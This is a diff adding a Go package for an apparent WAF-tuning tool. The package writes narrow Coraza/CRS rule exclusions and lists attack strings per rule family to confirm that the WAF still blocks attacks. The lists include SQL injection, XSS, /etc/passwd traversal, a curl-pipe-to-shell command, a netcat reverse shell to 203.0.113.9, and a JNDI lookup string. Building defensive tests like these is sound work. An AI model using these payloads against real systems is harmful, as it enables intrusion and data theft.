@@ -1,0 +1,100 @@
+// Package exclusion writes the narrowest exclusion that lets given blocked
+// requests through a baseline, and the cases that show it still blocks
+// attacks where it opened: what `wafcanary tune` writes. Every exclusion
+// it proposes has been compiled and judged against the requests and the
+// attacks in process before it is returned.
+package exclusion
+
+import (
+	"fmt"
+	"strings"
+)
+
+// Removal takes one variable away from one rule: what
+// ctl:ruleRemoveTargetById=RULE;TARGET writes.
+type Removal struct {
+	Rule   int    `json:"rule"`
+	Target string `json:"target"` // VARIABLE:key, as Coraza names the match
+}
+
+func (r Removal) String() string { return fmt.Sprintf("%d;%s", r.Rule, r.Target) }
+
+// keyed are the collections whose members an exclusion can name one by
+// one. Every other variable (REQUEST_BODY, REQUEST_URI, REQUEST_FILENAME,
+// QUERY_STRING, XML, TX...) is inspected whole: taking it away from a rule
+// would take away everything it sees.
+var keyed = map[string]bool{
+	"ARGS": true, "ARGS_GET": true, "ARGS_POST": true,
+	"ARGS_NAMES": true, "ARGS_GET_NAMES": true, "ARGS_POST_NAMES": true,
+	"REQUEST_HEADERS": true, "REQUEST_HEADERS_NAMES": true,
+	"REQUEST_COOKIES": true, "REQUEST_COOKIES_NAMES": true,
+	"FILES": true, "FILES_NAMES": true,
+}
+
+// evaluation reports whether a rule decides on the anomaly score rather
+// than detecting anything (949xxx, 959xxx) or only reports (980xxx): an
+// exclusion never touches them.
+func evaluation(id int) bool {
+	switch id / 1000 {
+	case 949, 959, 980:
+		return true
+	}
+	return false
+}
+
+// narrow says why a matched (rule, target) cannot be excluded narrowly,
+// or "" when it can.
+func narrow(rule int, target string) string {
+	if rule/1000 == 920 {
+		return fmt.Sprintf("rule %d is protocol enforcement (920xxx): the request breaks HTTP as CRS enforces it, and no exclusion narrower than the rule itself exists; fix the client, or change the rule knowingly", rule)
+	}
+	v, key, ok := strings.Cut(target, ":")
+	if !ok || key == "" || !keyed[v] {
+		return fmt.Sprintf("rule %d matched %s, which it inspects whole: taking it away would blind the rule to all of it", rule, target)
+	}
+	if strings.ContainsAny(key, ",;'\"\\ \t\r\n") || strings.HasPrefix(key, "/") {
+		return fmt.Sprintf("rule %d matched %s, whose name cannot be written in a ctl: action", rule, target)
+	}
+	return ""
+}
+
+// family is what a CRS rule detects, by its file's number, with the
+// attacks that stand for it in the same variable.
+type family struct {
+	name    string
+	attacks []string
+}
+
+// Attacks per CRS family. Each is tried in the excluded variable; the
+// ones the baseline blocks become must_block cases. SQL injection and XSS
+// are tried for every exclusion, whatever the rule: they are what an
+// opened variable lets through first.
+var (
+	sqli     = family{"SQL injection", []string{"1' OR '1'='1' --", "' UNION SELECT username, password FROM users--", "1; DROP TABLE users--"}}
+	xss      = family{"XSS", []string{"<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)"}}
+	families = map[int]family{
+		930: {"path traversal and file access", []string{"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "/etc/shadow"}},
+		931: {"remote file inclusion", []string{"http://203.0.113.9/shell.txt?", "ftp://203.0.113.9/x.php"}},
+		932: {"remote command execution", []string{"; cat /etc/passwd", "$(curl http://203.0.113.9/x.sh | sh)", "| nc -e /bin/sh 203.0.113.9 4444"}},
+		933: {"PHP injection", []string{"<?php system($_GET['cmd']); ?>", "php://filter/convert.base64-encode/resource=index.php"}},
+		934: {"generic injection", []string{"require('child_process').exec('id')", "{{constructor.constructor('return process')()}}"}},
+		941: xss,
+		942: sqli,
+		944: {"Java injection", []string{"${jndi:ldap://203.0.113.9/a}", "java.lang.Runtime.getRuntime().exec(\"id\")"}},
+	}
+)
+
+// familiesFor returns the families whose attacks test an exclusion of
+// rule: its own, then SQL injection and XSS.
+func familiesFor(rule int) []family {
+	out := []family{}
+	if f, ok := families[rule/1000]; ok {
+		out = append(out, f)
+	}
+	for _, f := range []family{sqli, xss} {
+		if len(out) == 0 || out[0].name != f.name {
+			out = append(out, f)
+		}
+	}
+	return out
+}
